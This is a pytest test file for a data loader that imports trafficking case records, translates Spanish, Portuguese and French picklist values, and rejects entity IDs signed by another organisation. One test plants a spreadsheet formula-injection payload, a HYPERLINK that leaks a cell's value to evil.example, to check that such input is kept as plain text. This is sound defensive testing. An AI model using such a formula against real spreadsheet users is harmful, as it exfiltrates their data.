        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "h.xlsx")


def test_formula_text_in_a_csv_is_data(tf_sqlite, tmp_path):
    path = tmp_path / "f.csv"
    path.write_text(
        "prs_FirstName,prs_SecondName\n"
        '"=HYPERLINK(""http://evil.example/?x=""&B3,""clic"")",Ruiz\n'
        "'=1+1,Vega\n",  # the exporter's escape is removed
        encoding="utf-8",
    )
    summary = htcds.load_htcds(tf_sqlite, "fgr", path)
    assert (summary.errors, summary.lines) == ([], 2)
    ents = entities(tf_sqlite, tf_sqlite.users["luis"])
    by_name(ents, '=HYPERLINK("http://evil.example/?x="&B3,"clic") Ruiz')
    assert by_name(ents, "=1+1 Vega")[1]["properties"]["firstName"] == ["=1+1"]


# -- Spanish, Portuguese and French picklist values -------------------------------------------
@pytest.mark.parametrize(
    ("code", "raw", "values"),
    [
        ("prs_Gender", "Masculino", ["Masculine"]),
        ("prs_Gender", "MUJER", ["Feminine"]),
        ("prs_Gender", "Hombre", ["Masculine"]),
        ("prs_Gender", "femme", ["Feminine"]),
        ("prs_Gender", "M", ["M"]),  # masculino or mujer: kept as given
        ("vic_TraffickingStatus", "Víctima posible", ["PossibleVictimOfTrafficking"]),
        ("vic_TraffickingStatus", "presunta victima", ["PossibleVictimOfTrafficking"]),
        ("vic_TraffickingStatus", "VÍCTIMA CONFIRMADA", ["ActualVictimOfTrafficking"]),
        ("vic_TraffickingStatus", "No es víctima", ["NotAVictimOfTrafficking"]),
        ("vic_TraffickingStatus", "vítima possível", ["PossibleVictimOfTrafficking"]),
        ("vic_TraffickingStatus", "Víctima", ["Víctima"]),  # possible or confirmed? kept
        (
            "per_RoleInProcess",
            "Reclutador/Enganchador; Transportista, Pollero/Coyote; Comprador/Vendedor",
            ["RecruiterOrIntermediary", "Transporter", "Smuggler", "Comprador/Vendedor"],
        ),
        ("per_RoleInProcess", "Enganchadora; coyote; Explotador", None),
        ("per_RoleInProcess", "Comprador; Vendedor; Receptor; Albergador", None),
        ("per_RoleInProcess", "Halcón", ["Halcón"]),
        (
            "vic_TypeOfExploitation",
            "Trabajos forzados; explotación sexual; Mendicidad forzada; servidumbre; "
            "matrimonio forzado",
            ["ForcedLabour", "SexualExploitation", "ForcedBegging", "Servitude", "ForcedMarriage"],
        ),
        (
            "vic_MethodsOfControl",
            "Servidumbre por deudas; retención de documentos; falsas promesas",
            ["DebtBondage", "WithholdsDocuments", "FalsePromises"],
        ),
        ("hte_Type", "Tránsito", ["Transit"]),
        ("cas_Status", "Cerrado", ["Closed"]),
    ],
)
def test_translated_picklist_values(code, raw, values):
    expected = {
        "Enganchadora; coyote; Explotador": ["RecruiterOrIntermediary", "Smuggler", "Exploiter"],
        "Comprador; Vendedor; Receptor; Albergador": [
            "BoughtIndividual",
            "SoldIndividual",
            "ReceivedIndividual",
            "HarbouredIndividual",
        ],
    }
    assert clean_cell(FIELDS[code], raw, []) == (values or expected[raw], None)


def test_translations_never_clash():
    """No word means two values of one field, and none shadows a code or an
    English label of another value."""
    from gugus.ingest.htcds_fields import VALUE_WORDS, _squash

    for code, words in VALUE_WORDS.items():
        f = FIELDS[code]
        standard = {_squash(v): v for v in f.values} | {
            _squash(label): v for v, label in zip(f.values, f.value_labels, strict=False)
        }
        seen: dict[str, str] = {}
        for value, text in words.items():
            assert value in f.values, (code, value)
            for word in text.split("|"):
                key = _squash(word)
                assert key, (code, word)
                assert seen.setdefault(key, value) == value, (code, word)
                assert standard.get(key, value) == value, (code, word)


def test_spanish_values_give_roles_and_gender_and_are_kept_as_written(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = tmp_path / "es.csv"
    path.write_text(
        "prs_FirstName;prs_SecondName;prs_Gender;vic_TraffickingStatus;per_RoleInProcess\n"
        "Yajaira;Ramos;Femenino;Víctima posible;\n"
        "Esvin;Tzul;Masculino;;Transportista|Smuggler\n",  # Excel in Spanish writes ';'
        encoding="utf-8",
    )
    summary = htcds.load_htcds(tf, "fgr", path)
    assert (summary.errors, summary.dropped) == ([], 0)
    ents = entities(tf, tf.users["luis"])
    vid, victim = by_name(ents, "Yajaira Ramos")
    props = victim["properties"]
    assert props["gender"] == ["female"]
    assert "victim" in props["classification"] and "topics" not in props
    assert {
        "prs_Gender: Feminine",
        "vic_TraffickingStatus: PossibleVictimOfTrafficking",
    } <= tags(victim)
    assert {
        "prs_Gender (as written): Femenino",
        "vic_TraffickingStatus (as written): Víctima posible",
    } <= set(props["keywords"])
    assert marking_of(tf, vid)["tlp"] == "amber+strict"
    _, perp = by_name(ents, "Esvin Tzul")
    props = perp["properties"]
    assert props["gender"] == ["male"]
    assert {"perpetrator", "Transporter", "Smuggler"} <= set(props["classification"])
    assert props["topics"] == ["crime.traffick.human"]
    assert "per_RoleInProcess (as written): Transportista" in props["keywords"]
    assert "per_RoleInProcess (as written): Smuggler" not in props["keywords"]  # a code


# -- gugus_entity_id of another organisation ----------------------------------------------------
def _poison(tmp_path: Path, gid: str, name: str = "poison.csv") -> Path:
    path = tmp_path / name
    path.write_text(
        "gugus_entity_id,gugus_role,prs_FirstName,prs_SecondName,per_RoleInProcess\n"
        f"{gid},perpetrator,María José,Pérez López,Exploiter\n",
        encoding="utf-8",
    )
    return path


def test_an_id_of_another_organisation_is_refused_alike_whether_it_exists_or_not(tf, tmp_path):
    """GT-MP cannot make MX-FGR's victim a perpetrator by writing its id: MX's
    ids carry MX's namespace signature and are refused (a partner's export),
    with the same answer for an MX id that exists nowhere (no existence
    oracle); nothing is written."""
    htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    luis, gabi = tf.users["luis"], tf.users["gabi"]
    victim_id, before = by_name(entities(tf, luis), "María José Pérez López")
    assert victim_id == nsid("MX-FGR", victim_id.rsplit(".", 1)[0])
    admin.add_collection(tf, "mp", "GT-MP", "amber", None, release_to=["MX-FGR"])
    stored = count(tf)
    answers = []
    for gid, name in ((victim_id, "a.csv"), (nsid("MX-FGR", "0" * 40), "b.csv")):
        with pytest.raises(InvalidInput) as info:
            htcds.load_htcds(tf, "mp", _poison(tmp_path, gid, name), actor=gabi)
        answers.append(info.value.message.replace(name, "X"))
    assert answers[0] == answers[1]
    assert "column A (gugus_entity_id): exported by another organisation" in answers[0]
    assert count(tf) == stored
    victim = reads.get_entity(tf, luis, victim_id)
    assert victim["collections"] == ["fgr"]
    assert "topics" not in victim["properties"]
    assert victim["properties"]["classification"] == before["properties"]["classification"]


def test_a_bare_id_lands_in_the_loading_organisations_namespace(tf, tmp_path):
    """The victim's id without MX's signature is GT-MP's own id: a new person
    of GT-MP, MX's victim untouched; a re-load is idempotent."""
    htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    luis, gabi = tf.users["luis"], tf.users["gabi"]
    victim_id, before = by_name(entities(tf, luis), "María José Pérez López")
    plain = victim_id.rsplit(".", 1)[0]
    admin.add_collection(tf, "mp", "GT-MP", "amber", None, release_to=["MX-FGR"])
    first = htcds.load_htcds(tf, "mp", _poison(tmp_path, plain), actor=gabi)
    theirs = entities(tf, gabi, "mp")
    assert nsid("GT-MP", plain) in theirs and victim_id not in theirs
    victim = reads.get_entity(tf, luis, victim_id)
    assert victim["collections"] == ["fgr"]
    assert victim["properties"]["classification"] == before["properties"]["classification"]
    again = htcds.load_htcds(tf, "mp", _poison(tmp_path, plain), actor=gabi)
    assert again.statements == first.statements
    assert set(entities(tf, gabi, "mp")) == set(theirs)


def test_own_ids_are_kept(tf_sqlite, tmp_path):
    """An id the organisation's importer made (with or without its signature)
    is its own: the same person in every collection of the organisation;
    another organisation loading the same file gets its own person."""
    tf = tf_sqlite
    luis = tf.users["luis"]
    row = htcds.Row(2, "x", values={"prs_IdentityNumber": ["RASJ790430HCSMTN09"]})
    made = htcds.person_key("fgr", row)
    path = tmp_path / "own.csv"
    path.write_text(
        f"gugus_entity_id,prs_IdentityNumber,prs_FirstName\n{made},RASJ790430HCSMTN09,Juan\n",
        encoding="utf-8",
    )
    htcds.load_htcds(tf, "open", path)
    assert nsid("MX-FGR", made) in entities(tf, luis, "open")
    admin.add_collection(tf, "mp", "GT-MP", "amber", None)
    htcds.load_htcds(tf, "mp", path, actor=tf.users["gabi"])
    assert set(entities(tf, tf.users["gabi"], "mp")) == {nsid("GT-MP", made)}
    # The signed id, as an export writes it: the same person.
    path.write_text(
        f"gugus_entity_id,prs_FirstName\n{nsid('MX-FGR', made)},Juan C.\n", encoding="utf-8"
    )
    htcds.load_htcds(tf, "fgr", path)
    assert nsid("MX-FGR", made) in entities(tf, luis, "fgr")
